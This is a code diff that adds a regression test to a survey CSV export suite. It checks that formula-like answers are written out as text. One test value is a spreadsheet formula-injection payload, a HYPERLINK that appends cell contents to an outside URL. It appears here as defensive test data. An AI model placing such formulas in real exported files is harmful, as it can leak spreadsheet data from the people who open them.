@@ -145,6 +145,20 @@ def test_survey_export_csv_one_row_per_response(client, survey, admin_user):
     assert rows[4][2:] == ["", "", "", "Yes", ""]
 
 
+def test_finding_4_survey_export_writes_typed_formulas_as_text(client, admin_user):
+    survey = SurveyFactory(slug="formulas")
+    question = SurveyQuestionFactory(survey=survey, position=1, kind="text", text="=1+1")
+    response = SurveyResponse.objects.create(survey=survey)
+    SurveyAnswer.objects.create(response=response, question=question, text='=HYPERLINK("http://example.com/?"&A1)')
+    client.force_login(admin_user)
+
+    content = client.get(reverse("feedback:staff_survey_export", args=[survey.slug])).content.decode()
+
+    rows = list(csv.reader(io.StringIO(content)))
+    assert rows[0][4] == "'=1+1"
+    assert rows[1][4] == '\'=HYPERLINK("http://example.com/?"&A1)'
+
+
 @pytest.mark.parametrize("persona", ["outsider", "officer", "chair", "partner"])
 def test_survey_export_refused_to_others(client, survey, persona, request):
     client.force_login(request.getfixturevalue(persona))
